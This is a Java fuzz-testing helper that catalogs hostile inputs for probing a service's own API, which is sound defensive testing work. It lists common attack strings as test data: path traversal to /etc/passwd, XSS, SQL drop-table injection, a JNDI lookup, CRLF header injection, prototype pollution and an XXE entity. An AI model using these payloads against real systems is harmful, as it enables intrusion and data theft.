package io.kontor.testing.fuzz;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;

/**
 * The catalog of hostile input: what a broken client, a confused integration or an attacker sends. Values are raw
 * wire text (JSON with its escapes, percent-encoded path segments), so that nothing on the way tidies them up.
 */
final class HostileInputs {

    private HostileInputs() {
    }

    record Named(String name, byte[] value) {

        static Named of(String name, String value) {
            return new Named(name, value.getBytes(StandardCharsets.UTF_8));
        }
    }

    /** JSON values put in place of each member of a valid body, one at a time. */
    static List<Named> jsonValues() {
        List<Named> values = new ArrayList<>(List.of(
                Named.of("empty string", "\"\""),
                Named.of("blank string", "\"   \""),
                Named.of("escaped NUL", "\"a\\u0000b\""),
                Named.of("escaped control characters", "\"\\u0001\\u0007\\u001b[31m\\u007f\\u009f\""),
                Named.of("lone high surrogate", "\"a\\ud800b\""),
                Named.of("reversed surrogates", "\"\\udfff\\ud800\""),
                Named.of("right-to-left override", "\"invoice\\u202efdp.exe\""),
                Named.of("path traversal", "\"../../../../etc/passwd\""),
                Named.of("markup", "\"<script>alert(1)</script>\""),
                Named.of("SQL", "\"'; drop table client; --\""),
                Named.of("lookup expression", "\"${jndi:ldap://kontor.invalid/a}\""),
                Named.of("format string", "\"%s%n%x%d\""),
                Named.of("1,000 emoji", "\"" + "\uD83D\uDE00".repeat(1000) + "\""),
                Named.of("100,000 characters", "\"" + "x".repeat(100_000) + "\""),
                Named.of("impossible date", "\"9999-99-99\""),
                Named.of("huge exponent as text", "\"1e999999999\""),
                Named.of("null", "null"),
                Named.of("true", "true"),
                Named.of("-1", "-1"),
                Named.of("1.5", "1.5"),
                Named.of("number above double", "1e309"),
                Named.of("number above long", "9223372036854775808"),
                Named.of("5,000 digits", "1" + "0".repeat(5000)),
                Named.of("empty array", "[]"),
                Named.of("empty object", "{}"),
                Named.of("nested arrays", "[".repeat(50) + "]".repeat(50)),
                Named.of("prototype key", "{\"__proto__\": {\"admin\": true}}")));
        values.add(new Named("invalid UTF-8 (C3 28)", quoted(0xC3, 0x28)));
        values.add(new Named("invalid UTF-8 (FF FE)", quoted(0xFF, 0xFE)));
        values.add(new Named("overlong UTF-8 '/' (C0 AF)", quoted(0xC0, 0xAF)));
        values.add(new Named("UTF-8 encoded surrogate (ED A0 80)", quoted(0xED, 0xA0, 0x80)));
        values.add(new Named("raw control character", quoted('a', 0x01, 'b')));
        values.add(new Named("raw NUL byte", quoted('a', 0x00, 'b')));
        return values;
    }

    /** Bodies no JSON operation can accept. */
    static List<Named> malformedJson() {
        return List.of(
                Named.of("no body", ""),
                Named.of("an open brace", "{"),
                Named.of("a member without a value", "{\"a\":}"),
                Named.of("an unclosed array", "[1,2"),
                Named.of("a misspelt literal", "nul"),
                Named.of("single quotes", "{'a':1}"),
                Named.of("a comment", "/* c */ {}"),
                Named.of("a bare string", "\"text\""),
                Named.of("a bare number", "42"),
                Named.of("null", "null"),
                Named.of("an array", "[]"),
                Named.of("50,000 nested arrays", "[".repeat(50_000) + "]".repeat(50_000)),
                Named.of("20,000 nested objects", "{\"a\":".repeat(20_000) + "1" + "}".repeat(20_000)),
                Named.of("a member name of 100,000 characters", "{\"" + "k".repeat(100_000) + "\": 1}"));
    }

    /** Names of an uploaded file: where the name goes (a download header, a log line) must stay safe. */
    static List<Named> fileNames() {
        List<Named> names = new ArrayList<>(List.of(
                Named.of("path traversal", "../../../../etc/passwd"),
                Named.of("Windows path traversal", "..\\..\\..\\windows\\win.ini"),
                Named.of("absolute path", "/etc/shadow"),
                Named.of("header injection", "a.pdf\r\nX-Injected: 1"),
                Named.of("control characters", "a\u0001\u0007\u001b[31m.pdf"),
                Named.of("C1 control characters", "a\u0085\u009b.pdf"),
                Named.of("right-to-left override", "invoice\u202efdp.exe"),
                Named.of("quotes and semicolons", "a\"; filename=\"evil.exe"),
                Named.of("only dots", ".."),
                Named.of("empty", ""),
                Named.of("10,000 characters", "n".repeat(10_000) + ".pdf"),
                Named.of("emoji", "\uD83D\uDE00\uD83D\uDE00.pdf")));
        names.add(new Named("NUL byte", bytes('a', 0x00, '.', 'p', 'd', 'f')));
        names.add(new Named("invalid UTF-8", bytes('a', 0xFF, 0xFE, '.', 'p', 'd', 'f')));
        return names;
    }

    /** Text form fields and path segments, as bytes. */
    static List<Named> formValues() {
        List<Named> values = new ArrayList<>(List.of(
                Named.of("empty", ""),
                Named.of("10,000 characters", "v".repeat(10_000)),
                Named.of("control characters", "a\u0001\u001b[31mb"),
                Named.of("lone surrogate escape as text", "\\ud800"),
                Named.of("huge exponent", "1e999999999"),
                Named.of("SQL", "'; drop table document; --")));
        values.add(new Named("NUL byte", bytes('a', 0x00, 'b')));
        values.add(new Named("invalid UTF-8", bytes('a', 0xFF, 0xFE, 'b')));
        return values;
    }

    /** Path parameter values, percent-encoded as a client would put them on the wire. */
    static List<String> pathValues() {
        return List.of("not-a-uuid", "00000000-0000-0000-0000-000000000000", "..%2F..%2Fetc%2Fpasswd", "%2e%2e",
                "%00", "%zz", "%ff%fe", "-1", "99999999999999999999", "%20", "a%0d%0aX-Injected:%201",
                "x".repeat(5000), "%E2%80%AE");
    }

    /** Query parameter values: overlong, NUL, broken escapes, invalid UTF-8, injected line breaks. */
    static List<String> queryValues() {
        return List.of("x".repeat(10_000), "%00", "%zz", "%ff%fe", "a%0d%0ab", "-1", "99999999999999999999");
    }

    /**
     * Bodies with a Content-Type that lies about them.
     *
     * @return content type, description and body
     */
    static List<Map.Entry<String, Named>> contentTypeLies(byte[] validBody) {
        byte[] pdf = bytes('%', 'P', 'D', 'F', '-', '1', '.', '7', '\n', 0xE2, 0xE3, 0xCF, 0xD3, '\n', 0x00, 0xFF);
        return List.of(
                Map.entry("text/csv", new Named("a JSON body declared as CSV", validBody)),
                Map.entry("application/json", new Named("a PDF declared as JSON", pdf)),
                Map.entry("multipart/form-data", new Named("multipart without a boundary", validBody)),
                Map.entry("multipart/form-data; boundary=kontor", new Named("multipart that is not", validBody)),
                Map.entry("application/x-www-form-urlencoded", new Named("a form", Named.of("", "a=b&c=%zz").value())),
                Map.entry("application/json; charset=klingon", new Named("an unknown charset", validBody)),
                Map.entry("application/json; charset=utf-16", new Named("UTF-8 declared as UTF-16", validBody)),
                Map.entry("text/;;==;;", new Named("a malformed media type", validBody)),
                Map.entry("", new Named("an empty Content-Type", validBody)),
                Map.entry("application/xml", new Named("XML", Named.of("", "<!DOCTYPE a [<!ENTITY x SYSTEM "
                        + "\"file:///etc/passwd\">]><a>&x;</a>").value())));
    }

    private static final Pattern INVALID_ESCAPE = Pattern.compile("%(?![0-9A-Fa-f]{2})");

    static boolean hasInvalidEscape(String requestTarget) {
        return INVALID_ESCAPE.matcher(requestTarget).find();
    }

    static byte[] bytes(int... values) {
        byte[] bytes = new byte[values.length];
        for (int i = 0; i < values.length; i++) {
            bytes[i] = (byte) values[i];
        }
        return bytes;
    }

    private static byte[] quoted(int... inner) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write('"');
        for (int b : inner) {
            out.write(b);
        }
        out.write('"');
        return out.toByteArray();
    }
}
